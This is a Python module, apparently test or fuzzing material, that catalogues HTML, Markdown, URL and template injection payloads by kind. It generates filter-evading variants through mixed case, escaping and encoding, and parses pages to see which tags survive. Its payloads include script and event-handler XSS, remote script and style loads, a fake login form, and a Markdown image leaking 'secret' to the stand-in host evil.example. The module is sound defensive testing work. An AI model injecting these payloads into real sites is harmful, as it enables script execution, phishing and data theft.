"""Hostile texts, and a parser that shows which tags and attributes a page really has."""

import re
from html import escape
from html.parser import HTMLParser
from urllib.parse import quote

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![x](http://evil.example/?q)",
    "</div><form action=http://evil.example>",
    "javascript:alert(1)",
    "'-alert(1)-'",
]

# By what they try. HOST is nowhere: a request to it is one that left the page.
HOST = "evil.example"
KINDS = {
    "script": [
        "<script>alert(1)</script>",
        f"<script src=//{HOST}/s.js></script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "</script><script>alert(1)</script>",
        "<!--<script>--><script>alert(1)//</script>",
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<a onmouseover=alert(1) onclick=alert(1)>here</a>",
        "<div style='animation:x' onanimationstart=alert(1)>x</div>",
    ],
    "drawing": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
        f"<svg><image href=http://{HOST}/i.png></image></svg>",
    ],
    "end of an attribute or a text": [
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)" x="',
        "' autofocus onfocus='alert(1)' x='",
        "</title></textarea></style><img src=x onerror=alert(1)>",
        "</q></cite></blockquote></div></details><h1>Owned</h1>",
        "]]><img src=x onerror=alert(1)>",
    ],
    "Markdown": [
        f"![x](http://{HOST}/?q=secret)",
        f"![x](//{HOST}/i.png)",
        f"![x][1]\n\n[1]: http://{HOST}/i.png",
        "[here](javascript:alert(1))",
        f"<http://{HOST}/>",
        f"# Owned\n\n| a |\n|---|\n| ![x](http://{HOST}/t) |",
        "```mermaid\ngraph TD; A-->B; click A javascript:alert(1)\n```",
        r"$$\\href{javascript:alert(1)}{x}$$",
    ],
    "address": [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        f"//{HOST}/x",
        f"http://{HOST}\\@127.0.0.1/",
        "<a href='javascript:alert(1)'>here</a>",
    ],
    "style": [
        "<style>*{display:none}</style>",
        f"<style>@import 'http://{HOST}/s.css';</style>",
        f"<link rel=stylesheet href=http://{HOST}/s.css>",
        f"<p style='background:url(http://{HOST}/b.png)'>x</p>",
        "<div style='position:fixed;inset:0;background:red;z-index:9999'>Owned</div>",
        "<font size=99999>Owned</font>",
    ],
    "frame, form or page": [
        f"<iframe src=http://{HOST}></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        f"<form action=http://{HOST}><input name=password><button>Log in</button></form>",
        f"<meta http-equiv=refresh content='0;url=http://{HOST}'>",
        f"<base href=http://{HOST}/>",
        f"<object data=http://{HOST}/o></object><embed src=http://{HOST}/e>",
        "<button id=retry-0 class=act>Ask again</button>",
    ],
    "template": [
        "${alert(1)}",
        "`+alert(1)+`",
        "{{constructor.constructor('alert(1)')()}}",
        "{{#with 'x' as |s|}}{{s.constructor.constructor 'alert(1)'}}{{/with}}",
        '__i18n__{"key":"<img src=x onerror=alert(1)>"}',
        "'-alert(1)-'",
    ],
    "layout": [
        "W" * 300,
        "\u202eevil\u202c\u2066x",
        "Z\u0351\u0361\u034f" + "\u0310\u0345" * 60,
        "漢" * 200,
        "a\u200b" * 100,
        " \u3000" * 100 + "x",
    ],
}


def _mixed_case(text: str) -> str:
    return "".join(char.upper() if n % 2 else char.lower() for n, char in enumerate(text))


# What filters of tags have missed: each keeps the meaning, or would after one more decoding.
MUTATIONS = (
    lambda text: text,
    lambda text: re.sub(r"<(/?\w+)", lambda tag: f"<{_mixed_case(tag[1])}", text).replace(" on", "/\non"),
    lambda text: escape(text) if re.search(r"[<>&\"']", text) else quote(text),
    lambda text: f"{text}{text[::-1]}<!-- {text} --><!--",
)
PAYLOADS = list(
    dict.fromkeys(mutate(text) for texts in KINDS.values() for text in texts for mutate in MUTATIONS)
)


class Tags(HTMLParser):
    """Collects the tags and attributes of a page as a browser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attributes)))
